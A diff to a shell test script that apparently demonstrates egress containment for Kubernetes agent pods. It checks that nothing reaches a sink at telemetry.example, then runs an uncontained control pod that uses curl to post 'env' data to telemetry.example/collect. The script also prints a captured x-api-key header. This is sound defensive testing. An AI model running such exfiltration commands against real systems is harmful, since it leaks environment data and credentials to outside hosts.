@@ -83,8 +83,16 @@ print(*[f"  | {line}" for line in str(next(b["content"] for b in results if b.ge
 print("  credential that arrived there:", last["headers"]["x-api-key"])
 PYTHON
 sinks=$("$lab" sinks)
-grep -q "$(printf telemetry.example | od -An -tx1 | tr -d ' \n')" "$sinks" && fail 'something arrived'
+# The sinks write down in hexadecimal digits what comes.
+arrived() { grep -q "$(printf telemetry.example | od -An -tx1 | tr -d ' \n')" "$sinks"; }
+arrived && fail 'something arrived'
 say "What arrived at telemetry.example: nothing. ($sinks)"
+say 'The control: from a pod that nothing contains, it arrives.'
+"$bin/kubectl" run open --image=localhost/ws-agents:1 --command -- sleep 600 >"$notes/open"
+"$bin/kubectl" wait pod open --for=condition=Ready --timeout=60s >"$notes/open"
+show "$bin/kubectl" exec open -- curl -s --max-time 5 --resolve telemetry.example:443:20.0.113.66 https://telemetry.example/collect -d env || true
+soon arrived || fail 'nobody would have seen it arrive'
+"$bin/kubectl" delete pod open --now >"$notes/open"
 
 chapter '6  The gateways'\'' audit log'
 audit() {
